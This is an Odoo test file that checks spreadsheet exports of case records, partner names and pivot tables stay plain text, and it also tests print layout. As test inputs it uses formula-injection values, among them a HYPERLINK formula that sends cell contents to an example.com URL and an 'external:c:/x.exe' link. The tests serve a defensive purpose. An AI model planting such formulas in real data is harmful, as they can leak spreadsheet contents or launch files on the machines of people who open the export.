import io
import json

from openpyxl import load_workbook

from odoo import http
from odoo.tests import BaseCase, HttpCase, tagged

from ..models.common.xlsx_report import TEXT, Sheet, workbook_of
from .common import KhoDLFixtures

FORMULA = '=HYPERLINK("https://example.com/?" & A1, "Open")'


@tagged("-at_install", "post_install")
class TestExports(KhoDLFixtures, HttpCase):
    """Odoo's own tables of our records hold others' words as words."""

    def setUp(self):
        super().setUp()
        self.prepare()
        self.clerk.group_ids += self.env.ref("base.group_allow_export")
        self.authenticate(self.clerk.login, self.clerk.login)

    def cells(self, model, ids, names, groupby=()):
        """Return the cells of a table of records as it is downloaded."""
        data = {
            "model": model,
            "fields": [{"name": name, "label": name, "type": "char", "store": True} for name in names],
            "ids": ids,
            "domain": [("id", "in", ids)],
            "groupby": groupby,
            "context": {},
            "import_compat": False,
        }
        answer = self.url_open(
            "/web/export/xlsx", data={"data": json.dumps(data), "csrf_token": http.Request.csrf_token(self)}
        )
        self.assertEqual(answer.status_code, 200, answer.text)
        return [cell for row in load_workbook(io.BytesIO(answer.content)).active.iter_rows() for cell in row]

    def test_what_a_citizen_writes_is_no_formula_and_no_link(self):
        case = self.make_case()
        for text in (FORMULA, "{=1+1}", "external:c:/x.exe", "https://example.com"):
            message = self.env["kho.dl.case.message"].create({"case_id": case.id, "body": text})
            case.owner_id.sudo().name = text
            for model, record, name in (
                ("kho.dl.case.message", message, "body"),
                ("kho.dl.case", case, "owner_id"),
                ("res.partner", case.owner_id, "name"),
            ):
                for groupby in ([], [name]):
                    with self.subTest(text=text, model=model, groupby=groupby):
                        cells = self.cells(model, record.ids, [name], groupby)
                        self.assertIn(text, [cell.value for cell in cells])
                        self.assertEqual({cell.data_type for cell in cells if text in str(cell.value)}, {"s"})
                        self.assertFalse([cell for cell in cells if cell.hyperlink])

    def test_nor_is_it_in_a_table_of_sums(self):
        header = {"title": FORMULA, "width": 1, "height": 1}
        table = {
            "model": "kho.dl.case",
            "title": "Cases",
            "measure_count": 1,
            "col_group_headers": [[{**header, "title": "Total"}], [header, {**header, "title": "https://example.com"}]],
            "measure_headers": [],
            "rows": [{"title": FORMULA, "indent": 1, "values": [{"value": 7}]}],
        }
        sent = json.dumps(table)
        for way in ({"data": {"data": sent}}, {"files": {"data": ("table.json", sent)}}):
            way.setdefault("data", {})["csrf_token"] = http.Request.csrf_token(self)
            answer = self.url_open("/web/pivot/export_xlsx", **way)
            self.assertEqual(answer.status_code, 200, answer.text)
            rows = load_workbook(io.BytesIO(answer.content)).active.iter_rows()
            cells = [cell for row in rows for cell in row if cell.value]
            self.assertEqual([cell.value for cell in cells if cell.data_type == "n"], [7])
            told = [str(cell.value).strip() for cell in cells if cell.data_type == "s"]
            self.assertEqual(told, ["Total", FORMULA, "https://example.com", FORMULA])
            self.assertFalse([cell for cell in cells if cell.hyperlink])


class TestOnPaper(BaseCase):
    def test_a_table_is_as_wide_as_a_page_and_each_page_has_its_head(self):
        content = workbook_of(
            [Sheet("Wide", [(f"Column {number}", 30, TEXT) for number in range(13)], [["x"] * 13] * 90)]
        )
        page = load_workbook(io.BytesIO(content)).active
        self.assertEqual((page.page_setup.orientation, int(page.page_setup.paperSize)), ("landscape", 9))
        self.assertTrue(page.sheet_properties.pageSetUpPr.fitToPage)
        self.assertEqual((page.page_setup.fitToHeight, page.print_title_rows), (0, "$1:$1"))
        self.assertIn("&P/&N", page.oddFooter.center.text)
